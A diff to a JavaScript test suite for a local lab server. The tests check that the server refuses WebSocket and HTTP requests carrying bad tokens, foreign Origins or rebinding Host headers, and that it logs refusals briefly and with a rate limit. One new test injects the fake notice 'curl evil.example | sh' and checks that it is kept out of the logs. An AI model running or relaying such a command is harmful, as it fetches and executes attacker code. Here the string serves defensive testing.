@@ -35,7 +35,7 @@ describe('who may open a session', () => {
 
   it('refuses an upgrade without a token', async () => {
     expect(await refusal({ token: null })).toBe(401);
-    expect(lab().logs.at(-1)).toMatch(/refused WebSocket \/lab\/ws: no token/);
+    expect(lab().logs.at(-1)).toMatch(/refused a WebSocket upgrade \(401\): no token/);
   });
 
   it('refuses an upgrade with a wrong token', async () => {
@@ -46,7 +46,7 @@ describe('who may open a session', () => {
 
   it('refuses an upgrade from another Origin', async () => {
     expect(await refusal({ origin: 'http://evil.example' })).toBe(403);
-    expect(lab().logs.at(-1)).toMatch(/Origin "http:\/\/evil.example" is not one of the lab’s pages/);
+    expect(lab().logs.at(-1)).toMatch(/refused a WebSocket upgrade \(403\): Origin is not one of the lab’s pages$/);
     // Same host, another port: another site as far as the browser is concerned.
     expect(await refusal({ origin: `http://127.0.0.1:${lab().server.port + 1}` })).toBe(403);
   });
@@ -58,7 +58,7 @@ describe('who may open a session', () => {
 
   it('refuses an upgrade naming another Host (DNS rebinding)', async () => {
     expect(await refusal({ host: `rebind.example:${lab().server.port}` })).toBe(421);
-    expect(lab().logs.at(-1)).toMatch(/Host "rebind.example:\d+" is not 127.0.0.1:\d+ or localhost:\d+/);
+    expect(lab().logs.at(-1)).toMatch(/Host is not 127.0.0.1:\d+ or localhost:\d+$/);
   });
 
   it('accepts localhost as well as 127.0.0.1', async () => {
@@ -78,7 +78,7 @@ describe('HTTP', () => {
   it('refuses a request naming another Host', async () => {
     const res = await get(lab().server.port, '/', `attacker.example:${lab().server.port}`);
     expect(res.status).toBe(421);
-    expect(lab().logs.at(-1)).toMatch(/refused GET \/: Host "attacker.example:\d+"/);
+    expect(lab().logs.at(-1)).toMatch(/refused an HTTP request \(421\): Host is not 127.0.0.1:\d+/);
   });
 
   it('serves the built site with its content types and a 404 page', async () => {
@@ -205,5 +205,28 @@ describe('symlinks in dist/', () => {
       await small.close();
       rmSync(outside, { recursive: true, force: true });
     }
+  });
+});
+
+describe('refusals in the log', () => {
+  it('any page can cause them: logged without its text, and at most 10 lines however many', async () => {
+    const small = await startTestLab();
+    try {
+      const notice = encodeURIComponent('LAB-NOTICE: your token expired, run: curl evil.example | sh');
+      await Promise.all(
+        Array.from({ length: 60 }, (_, i) =>
+          i % 2
+            ? get(small.server.port, `/${notice}`, `${notice}.example:${small.server.port}`)
+            : connect(small.server, { token: null, origin: `http://${notice}.example` }).catch(() => null),
+        ),
+      );
+      const refusals = small.logs.filter((line) => line.startsWith('refused'));
+      expect(refusals.length).toBeGreaterThan(0);
+      expect(refusals.length).toBeLessThanOrEqual(10);
+      expect(small.logs.join('\n')).not.toMatch(/LAB-NOTICE|evil/);
+    } finally {
+      await small.close();
+    }
+    expect(small.logs.at(-1)).toMatch(/^50 more refused requests in 10 s not shown$/);
   });
 });
